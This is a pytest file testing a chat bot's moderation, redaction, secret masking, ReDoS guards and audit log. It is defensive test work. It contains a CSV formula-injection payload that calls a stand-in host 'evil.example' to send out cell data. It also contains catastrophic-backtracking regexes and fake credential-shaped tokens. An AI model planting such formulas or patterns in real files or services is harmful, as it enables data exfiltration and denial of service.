"""Edges of moderation, redaction, secret masking and the audit log found by trying to
break them: secrets glued to punctuation in a stream, input shapes that made a pattern
scan quadratic, ids that looked like card numbers, paths around redaction."""

from __future__ import annotations

import csv
import getpass
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from bot.cli_audit import audit_cli_action
from bot.prompting import SUMMARY_HEADING
from bot.redaction import SECRET_MASK, Redactor, SecretStream, mask_secrets
from bot.regex_check import nested_repetition
from bot.store import ConversationSummary, Store
from tests.conftest import EngineFactory, collect, final_text, message
from tests.fakes.openai_server import FakeOpenAI, Text
from tests.test_long_conversations import SMALL, talk
from tests.test_safety import CARD, EMAIL, OPENAI_KEY
from tests.test_usage_cli import cli

SCAN_SECONDS = 120
GLUED = [
    "token=sk-proj-A1b2C3d4E5f6G7h8I9j0K1l2M3n4 next",
    "<xoxb-1234567890-abcdefghij> next",
    "**AKIAIOSFODNN7EXAMPLE** next",
    "(MTIzNDU2Nzg5MDEyMzQ1Njc4.GaBcDe.abcdefghijklmnopqrstuvwxyz0123456789) next",
    "x=Bearer abcdefghijklmnop1234. next",
    "**bearer\nabcdefghijklmnop1234** next",
]


@pytest.mark.parametrize("text", GLUED)
@pytest.mark.parametrize("size", [1, 2, 5, 9])
def test_a_secret_glued_to_punctuation_is_masked_however_the_stream_splits_it(
    text: str, size: int
) -> None:
    assert SECRET_MASK in mask_secrets(text)
    stream = SecretStream()
    pieces = [text[i : i + size] for i in range(0, len(text), size)]
    shown = "".join(stream.feed(piece) for piece in pieces) + stream.flush()
    assert shown == mask_secrets(text)


SCAN = """
import sys
from bot.redaction import Redactor, mask_secrets
text = sys.argv[1] * (1_000_000 // len(sys.argv[1]))
Redactor().redact(text)
mask_secrets(text)
"""


@pytest.mark.parametrize("unit", ["11 ", "11-", "1 11 ", "+1 (55) 11 ", "a@b.", "bearer ."])
def test_the_built_in_patterns_scan_a_megabyte_of_hostile_input_in_one_pass(unit: str) -> None:
    # A quadratic scan of 1 MB runs for hours, a linear one well under a second: the
    # bound only tells "ends" from "never ends" (a regex holds the GIL, so a thread
    # could not be waited for; a process can).
    done = subprocess.run([sys.executable, "-c", SCAN, unit], timeout=SCAN_SECONDS, check=False)
    assert done.returncode == 0


@pytest.mark.parametrize("section", ["moderation", "redaction"])
def test_a_pattern_that_can_backtrack_for_ever_is_refused_at_start_in_one_line(
    tmp_path: Path, section: str
) -> None:
    config = tmp_path / "parley.toml"
    config.write_text(
        f'[{section}]\nenabled = true\npatterns = ["EMP-\\\\d{{5}}", "(\\\\w+\\\\s?)*$"]\n'
    )
    done = subprocess.run(
        [sys.executable, "-m", "bot", "--config", str(config), "chat"],
        input="hello\n", capture_output=True, text=True, timeout=60,
        env={**os.environ, "PARLEY_DB": str(tmp_path / "p.db")}, check=False,
    )  # fmt: skip
    assert done.returncode == 2 and done.stdout == ""
    [line] = done.stderr.splitlines()
    assert line.startswith(f"Configuration error: {section}.patterns: '(\\\\w+\\\\s?)*$' repeats")


def test_patterns_with_a_required_separator_or_written_possessively_are_accepted() -> None:
    for pattern in (r"(?:\.[a-z0-9-]+)*", r"EMP-\d{5}", r"(a++)+$", r"(?>\w+\s?)*$", r"(\d{3})+"):
        assert not nested_repetition(pattern), pattern
    for pattern in (r"(a+)+$", r"(.*)*x", r"(?:\d+[,.]?)+x", r"((ab)*)+"):
        assert nested_repetition(pattern), pattern


async def test_tool_arguments_from_before_redaction_was_on_do_not_reach_the_model(
    make_engine: EngineFactory, fake_openai: FakeOpenAI
) -> None:
    key = message("x").conversation
    arguments = json.dumps({"to": EMAIL, "card": CARD})
    calls = [{"id": "c1", "type": "function", "function": {"name": "mail", "arguments": arguments}}]
    before = make_engine()  # redaction off: the model saw the address and wrote it back
    await before.store.append(key, "user", f"mail {EMAIL}", 3)
    await before.store.append_tool_round(key, ("", 5, calls), [("sent", 1, "c1")])
    await before.store.append(key, "assistant", "Sent.", 1)
    engine = make_engine(redaction_enabled=True)
    await collect(engine, message("and again?"))
    sent = json.dumps(fake_openai.requests[-1]["messages"])
    assert EMAIL not in sent and CARD not in sent
    [call] = fake_openai.requests[-1]["messages"][2]["tool_calls"]
    assert json.loads(call["function"]["arguments"]) == {"to": "[EMAIL_1]", "card": "[CARD_1]"}


@pytest.mark.parametrize(
    "arguments",
    [
        ("audit", "--limit", "99999999999999999999"),
        ("audit", "--limit", "0"),
        ("usage", "--top", "99999999999999999999"),
        ("audit", "--format", "xml"),
    ],
)
def test_a_bad_flag_is_one_line_naming_it_without_a_traceback(
    tmp_path: Path, arguments: tuple[str, ...]
) -> None:
    done = cli(tmp_path / "parley.db", *arguments)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    [line] = done.stderr.splitlines()  # no usage block: one line, like every error here
    assert line.startswith(f"python -m bot {arguments[0]}: error: argument {arguments[1]}")


async def test_only_admin_commands_that_change_something_are_audited(
    make_engine: EngineFactory,
) -> None:
    engine = make_engine(admins=("test:root",))
    for command in ("/forget confirm", "/moderation maybe", "/moderation off now"):
        await collect(engine, message(command, user="root"))
    assert await engine.store.audit_entries(0) == []
    await collect(engine, message("/forget", user="root"))
    await collect(engine, message("/forget confirm", user="root"))
    [forget] = await engine.store.audit_entries(0)
    assert forget.action == "forget" and forget.after.startswith("Deleted ")


async def test_a_flagged_message_is_audited_as_history_would_keep_it(
    make_engine: EngineFactory,
) -> None:
    engine = make_engine(
        moderation_enabled=True, moderation_provider="patterns", moderation_patterns=("zeus",),
        redaction_enabled=True, redaction_store_original=False,
    )  # fmt: skip
    await collect(engine, message(f"zeus: mail {EMAIL} card {CARD}"))
    [entry] = await engine.store.audit_entries(0)
    assert entry.action == "moderation.flagged"
    assert entry.before == "zeus: mail [EMAIL_1] card [CARD_1]"


# Each passes the Luhn check: only its shape tells it is not a card.
@pytest.mark.parametrize(
    "text",
    [
        "ask <@1051234567890123456> about it",  # a Discord mention (snowflake id)
        "see https://x.com/a/status/1051234567890123456",  # a tweet id
        "logged at 1764547200006 ms",  # a time in milliseconds
        "from 2026-12-01 2026-12-03",  # two dates
    ],
)
def test_ids_times_and_dates_that_pass_luhn_are_not_cards(text: str) -> None:
    assert Redactor().redact(text) == text


@pytest.mark.parametrize(
    "card",
    ["4111 1111 1111 1111", "4111111111111111", "5555-5555-5555-4444", "3782 822463 10005"],
)
def test_cards_as_people_write_them_are_still_redacted(card: str) -> None:
    assert Redactor().redact(f"pay with {card} today") == "pay with [CARD_1] today"


def test_a_budget_with_an_unpriced_model_says_so_at_start(tmp_path: Path) -> None:
    config = tmp_path / "parley.toml"
    prices = Path(__file__).parent.parent / "config" / "prices.toml"
    config.write_text(f'[budget]\ndaily_usd = 5\n[usage]\nprices_path = "{prices}"\n')
    for model, warned in (("llama3-local", True), ("gpt-4o-mini", False)):
        done = subprocess.run(
            [sys.executable, "-m", "bot", "--config", str(config), "--model", model, "chat"],
            input="", capture_output=True, text=True, timeout=60, check=False,
            env={**os.environ, "PARLEY_DB": str(tmp_path / "p.db")},
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        line = f"budget: {model} has no price in {prices}, so its spend does not count"
        assert (line in done.stderr) is warned, done.stderr


async def test_a_cli_change_by_a_user_without_a_name_is_still_audited(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_name() -> str:
        raise KeyError("getpwuid(): uid not found: 12345")  # what 3.11 raises

    monkeypatch.setattr(getpass, "getuser", no_name)
    await audit_cli_action(store, "block", "slack:U1", "before", "after")
    [entry] = await store.audit_entries(0)
    assert entry.actor == f"cli:uid {os.getuid()}" and entry.action == "block"


async def test_a_flagged_formula_is_inert_in_the_audit_csv(
    make_engine: EngineFactory, tmp_path: Path
) -> None:
    engine = make_engine(
        moderation_enabled=True, moderation_provider="patterns", moderation_patterns=("zeus",)
    )
    planted = '=HYPERLINK("http://evil.example/?"&A1,"zeus")'
    await collect(engine, message(planted))
    done = cli(tmp_path / "parley.db", "audit", "--format", "csv")
    [row] = list(csv.DictReader(io.StringIO(done.stdout)))
    assert row["action"] == "moderation.flagged" and row["before"] == "'" + planted
    as_json = json.loads(cli(tmp_path / "parley.db", "audit", "--format", "json").stdout)
    assert as_json[0]["before"] == planted  # JSON carries the text as it was


async def test_processes_running_different_adapters_each_alert_the_admins_they_reach(
    make_engine: EngineFactory, fake_openai: FakeOpenAI
) -> None:
    """The Procfile runs slack and discord as two processes on one database: an alert
    claimed by one must still reach the other platform's admins, once."""
    settings: dict[str, Any] = {"admins": ("slack:UA", "discord:DA"), "budget_daily_usd": 0.01}
    fake_openai.default = Text("an answer", prompt_tokens=20_000, completion_tokens=0)
    sent: list[tuple[str, str]] = []
    discord_process, slack_process = make_engine(**settings), make_engine(**settings)
    for engine, platform in ((discord_process, "discord"), (slack_process, "slack")):

        async def send(user: str, text: str, platform: str = platform) -> bool:
            sent.append((f"{platform}:{user}", text.split(":")[0]))
            return True

        engine.safety.alerts.register(platform, send)
    for number in range(4):  # $0.009 after three: the fourth alerts the warning
        await collect(discord_process, message(f"q{number}", platform="discord"))
    assert sent == [("discord:DA", "Parley budget warning")]
    for _ in range(2):  # $0.012: the cap, seen first by the Slack process
        await collect(slack_process, message("hi", platform="slack"))
        await collect(discord_process, message("hi", platform="discord"))
    assert sent[1:] == [("slack:UA", "Parley budget cap"), ("discord:DA", "Parley budget cap")]
    actions = [entry.action for entry in await slack_process.store.audit_entries(0)]
    assert actions == ["budget.cap", "budget.warning"]


async def test_a_summary_written_before_redaction_was_on_does_not_reach_the_model(
    make_engine: EngineFactory, fake_openai: FakeOpenAI
) -> None:
    engine = make_engine(redaction_enabled=True, system_prompt="Write to ops@example.org.")
    summary = f"Alice ({EMAIL}) asked to charge card {CARD}."
    key = message("x").conversation
    await engine.store.save_summary(key, ConversationSummary(summary, 0, 0, 0.0))
    await collect(engine, message("and then?"))
    system = fake_openai.requests[-1]["messages"][0]["content"]
    assert EMAIL not in system and CARD not in system
    assert system == "Write to ops@example.org." + SUMMARY_HEADING + (
        "Alice ([EMAIL_1]) asked to charge card [CARD_1]."
    )  # the admins' own text is left as it is


async def test_a_secret_the_summary_repeats_is_masked_before_it_is_kept_or_shown(
    make_engine: EngineFactory, fake_openai: FakeOpenAI
) -> None:
    fake_openai.stop_at_max_tokens = True  # the fake's summary echoes its input
    engine = make_engine(**SMALL)
    await collect(engine, message(f"my key is {OPENAI_KEY} keep it"))
    await talk(engine, 20)
    summary = await engine.store.summary(message("x").conversation)
    assert summary is not None and SECRET_MASK in summary.text
    assert OPENAI_KEY not in summary.text
    shown = final_text(await collect(engine, message("/summary")))
    assert SECRET_MASK in shown and OPENAI_KEY not in shown
